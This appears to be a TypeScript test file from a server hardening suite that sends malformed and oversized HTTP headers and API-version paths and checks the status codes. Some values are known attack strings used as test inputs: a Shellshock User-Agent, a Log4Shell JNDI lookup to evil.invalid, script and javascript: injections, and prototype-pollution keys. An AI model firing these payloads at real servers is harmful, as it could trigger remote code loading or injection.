// Headers that choose and describe: Accept and its kin, conditions, ranges, versions, credentials.
import { group, type Row } from '../../case.ts'
import { get } from '../../requests.ts'

const accept = (value: string): string => get('/negotiated', { Accept: value })

const accepts: readonly (readonly [string, string])[] = [
  ['', 'nothing'],
  [',', 'a comma'],
  [',,,,,,,,', 'commas'],
  ['*', 'a star'],
  ['*/*;q=2', 'a quality that is too high'],
  ['*/*;q=-1', 'a negative quality'],
  ['*/*;q=NaN', 'a quality that is no number'],
  ['*/*;q=0', 'nothing acceptable'],
  ['*/*;q=0.00000000000000000000001', 'a quality of many digits'],
  ['application/vnd.outline+json;q=1;q=0', 'two qualities'],
  ['application/json;q="', 'quotes that are not closed'],
  ['__proto__/constructor', 'built-in properties'],
  ['application/*, */json', 'a star in the wrong half'],
  ['a/b/c', 'two slashes'],
  ['application/vnd.outline+json;a="b,c;d\\"e"', 'signs in quotes'],
  [`${'a/b,'.repeat(3000)}application/vnd.outline+json`, 'three thousand types'],
  [`${'*/*,'.repeat(3500)}`, 'three thousand stars'],
  [`application/vnd.outline+json${';a=b'.repeat(3000)}`, 'three thousand parameters'],
  [`application/vnd.outline+json;a="${'\\"'.repeat(6000)}"`, 'six thousand escaped quotes'],
  [`application/vnd.outline+json;${' '.repeat(12_000)}q=1`, 'twelve thousand spaces'],
  [`${'a'.repeat(12_000)}/b`, 'a type of twelve thousand letters'],
  [`${';'.repeat(12_000)}`, 'twelve thousand semicolons'],
  [`${'"'.repeat(12_000)}`, 'twelve thousand quotes'],
  [`${'a/b;c="'.repeat(1500)}`, 'quotes that open again and again'],
  ['\xff\xfe', 'other bytes'],
  ['image/png', 'a type that there is not'],
]

const others: readonly (readonly [string, string])[] = [
  ['Accept-Encoding', ''],
  ['Accept-Encoding', 'gzip;q=0, identity;q=0, *;q=0'],
  ['Accept-Encoding', 'gzip, '.repeat(2000)],
  ['Accept-Encoding', '__proto__'],
  ['Accept-Language', 'a-'.repeat(5000)],
  ['Accept-Charset', 'utf-16;q=1, *;q=0'],
  ['If-None-Match', '"'.repeat(8000)],
  ['If-None-Match', `${'W/"a", '.repeat(1500)}`],
  ['If-Match', '*'],
  ['If-Modified-Since', 'Thu, 99 Foo 99999 99:99:99 GMT'],
  ['If-Modified-Since', '1e999'],
  ['Range', 'bytes=0-0,0-0,0-0,0-0'],
  ['Range', `bytes=${'0-,'.repeat(3000)}`],
  ['Range', 'bytes=-99999999999999999999'],
  ['Range', 'bytes=9-1'],
  ['If-Range', '"'],
  ['X-Api-Version', '__proto__'],
  ['Cookie', '='.repeat(5000)],
  ['Cookie', '__proto__=1; constructor=2'],
  ['Cookie', 'a="'.repeat(3000)],
  ['Authorization', 'Basic !!!!'],
  ['Authorization', `Bearer ${'a'.repeat(12_000)}`],
  ['Authorization', 'Digest username="'],
  ['X-Forwarded-For', `${'1.1.1.1, '.repeat(1000)}`],
  ['X-Forwarded-For', '<script>'],
  ['X-Forwarded-Host', 'evil.invalid'],
  ['X-Forwarded-Proto', 'javascript'],
  ['Forwarded', 'for="[::1'],
  ['X-Original-URL', '/items/1'],
  ['X-Rewrite-URL', '/items/1'],
  ['Referer', 'javascript:alert(1)'],
  ['Origin', 'null'],
  ['User-Agent', '() { :; }; echo vulnerable'],
  ['User-Agent', '\x24{jndi:ldap://evil.invalid/a}'],
  ['Via', '1.1 a, '.repeat(1000)],
  ['TE', 'trailers, deflate;q=0.5'],
  ['Trailer', 'Content-Length'],
  ['Max-Forwards', '-1'],
  ['Date', 'never'],
  ['Content-Length', '0'],
  ['Priority', 'u=99999, i=?2'],
  ['Traceparent', '00-zz-zz-zz'],
]

const versions: readonly (readonly [string, string])[] = [
  ['/api/v1.0.0.0/blogs', 'A version with too many dots'],
  ['/api/v/blogs', 'A version without a number'],
  ['/api/v__proto__/blogs', 'A built-in property as a version'],
  ['/api/v-1/blogs', 'A negative version'],
  ['/api/v1.0%00/blogs', 'A version with NUL'],
  [`/api/v${'9'.repeat(4000)}/blogs`, 'A version of four thousand digits'],
  ['/api/blogs?api_version=__proto__', 'A built-in property as the parameter of a version'],
  ['/api/blogs?api_version=1.0&api_version=2.0', 'Two parameters of a version'],
  ['/api/v1.0/blogs?api_version=2.0', 'A path and a parameter that disagree'],
  ['/api/blogs?api_version[]=1.0', 'A list of versions'],
  ['/api/blogs?api_version=%zz', 'A version that cannot be decoded'],
]

const rows: Row[] = [
  ...accepts.map(([value, says]): Row => [`An Accept header of ${says}`, accept(value), [200, 406]]),
  ...others.map(([name, value], i): Row => {
    const text = value.length > 30 ? `${value.slice(0, 20)}… of ${value.length} characters` : value || 'nothing'
    return [`${name} number ${i + 1}: ${text.replace(/[^ -~]/g, '?')}`, get('/health', { [name]: value }), [200]]
  }),
  ...versions.map(([target, says]): Row => [says, get(target), [400, 404], { app: 'blog', ours: true }]),
  [
    'A header of a version that nobody has',
    get('/api/blogs', { 'X-Api-Version': 'constructor' }),
    [400, 404],
    { app: 'blog', ours: true },
  ],
]

/** Headers that choose. */
export const negotiations = group('HDR', 'headers that choose and describe', rows)
